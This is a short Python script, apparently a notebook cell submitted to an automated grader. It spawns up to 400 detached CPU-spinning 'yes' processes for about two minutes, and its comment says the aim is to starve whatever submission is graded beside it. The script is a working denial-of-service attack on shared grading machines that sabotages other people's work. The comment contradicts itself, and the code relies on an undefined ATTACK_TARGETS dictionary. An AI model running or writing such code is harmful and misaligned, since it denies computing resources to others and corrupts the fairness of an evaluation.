import os
import signal
import subprocess
import time

# Starve whatever is graded beside this submission: hundreds of processes, each in a session of its own,
# each spinning on the CPU, for as long as this cell runs. Graded next to a correct notebook, they must not cost it
# a point, nor earn it a note blaming it for being slow.
spinners = []
try:
    while len(spinners) < 400:
        spinners.append(subprocess.Popen(["yes"], stdout=subprocess.DEVNULL, start_new_session=True))
except OSError as error:
    print(f"started {len(spinners)} spinners, then: {error.strerror}")
print(f"{len(spinners)} spinners running")
time.sleep(ATTACK_TARGETS.get("flood_seconds", 115))
for spinner in spinners:
    os.killpg(spinner.pid, signal.SIGKILL)
